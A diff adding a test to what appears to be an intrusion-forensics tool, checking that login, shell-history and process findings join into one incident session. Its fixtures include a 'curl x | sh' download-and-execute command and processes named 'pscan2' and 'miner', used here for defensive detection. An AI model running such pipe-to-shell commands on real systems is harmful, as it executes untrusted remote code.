@@ -13,7 +13,9 @@ import type { AuthLoginRecord } from '../../src/model/auth.js';
 import type { KnownFacts } from '../../src/model/facts.js';
 import type { Finding, FindingSubject, Severity } from '../../src/model/finding.js';
 import type { IncidentsFile } from '../../src/model/incident.js';
+import type { SessionRecord } from '../../src/model/logins.js';
 import { buildIncidents } from '../../src/story/incidents.js';
+import { sessionActivity } from '../../src/story/sessions.js';
 import { isSpecificFolder } from '../../src/story/subjects.js';
 import { proc } from '../helpers/records.js';
 
@@ -184,6 +186,41 @@ describe('join reasons', () => {
     const r = buildIncidents(fs, { authLogins: [login], processes: [daemon], accounts: [account('root', 0)] });
     expect(together(r, fs[0]!.id, fs[2]!.id)).toBe(true);
     expect(together(r, fs[0]!.id, fs[1]!.id)).toBe(false);
+  });
+});
+
+describe('sessions: one derivation with session-activity', () => {
+  const T = (hms: string) => `2026-11-22T${hms}.000Z`;
+  const wtmp: SessionRecord = { user: 'deploy', line: 'pts/0', host: '::ffff:127.0.0.3', addr: '::ffff:127.0.0.3', pid: 4100, login: T('22:26:12'), logout: T('22:40:12'), end: 'logout', source: 'wtmp', file: '/var/log/wtmp' };
+  // The auth log saw the login 4 s earlier and no PAM close (rotated away): one session all the same, ended by wtmp.
+  const accepted: AuthLoginRecord = { time: T('22:26:08'), user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: null, failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
+  // A console login of the same account: not an ssh session for either view.
+  const console_: SessionRecord = { ...wtmp, line: 'tty1', host: '', addr: null, login: T('22:50:00'), logout: null, end: 'still-logged-in', source: 'utmp' };
+  const during = proc({ pid: 7001, uid: 1001, user: 'deploy', comm: 'pscan2', exe: '/srv/k1/pscan2', cwd: '/', startTime: T('22:30:00'), startTicks: 1 });
+  const after = proc({ pid: 7002, uid: 1001, user: 'deploy', comm: 'miner', exe: '/srv/k2/miner', cwd: '/', startTime: T('23:30:00'), startTicks: 2 });
+  const facts: KnownFacts = { accounts: [account('deploy', 1001)], sessions: [wtmp, console_], authLogins: [accepted], processes: [during, after] };
+  const fs = renumber([
+    finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', time: accepted.time, failuresBefore: 30, method: 'password' }, { severity: 'critical' }),
+    // Tied by the history step to the wtmp record of the session: the same session as the auth log's login.
+    finding('activity.download-execute', { path: '/home/deploy/.bash_history', line: 3, user: 'deploy', command: 'curl x | sh', time: T('22:27:00'), session: { source: 'wtmp', user: 'deploy', login: wtmp.login, logout: wtmp.logout, address: wtmp.addr, line: 'pts/0' } }),
+    finding('process.known-tool', procSubject(during)),
+    finding('process.known-tool', procSubject(after)),
+  ]);
+
+  it('the span incidents join in is the span session-activity lists', () => {
+    const activity = sessionActivity(facts, fs);
+    expect(activity.sessions).toHaveLength(1);
+    const listed = activity.sessions[0]!;
+    expect(listed).toMatchObject({ start: wtmp.login, end: wtmp.logout, method: 'password' });
+    const r = buildIncidents(fs, facts);
+    const inc = incidentOf(r, fs[0]!.id);
+    expect(inc.findings).toEqual(fs.map((f) => f.id));
+    const inSession = inc.joins.filter((j) => j.reason === 'in-session');
+    // The login (by the auth log's time), the history entry (by the wtmp record) and the process started while it was open.
+    expect(inSession.map((j) => j.b)).toEqual([fs[1]!.id, fs[2]!.id]);
+    expect(inSession[0]!.value).toBe(`deploy from ::ffff:127.0.0.3 2026-11-22 22:26:12–22:40:12 UTC`);
+    // Started after wtmp's logout: the auth log alone would have left the session open; the one derivation does not.
+    expect(inc.joins.find((j) => j.b === fs[3]!.id)).toMatchObject({ reason: 'same-account' });
   });
 });
 
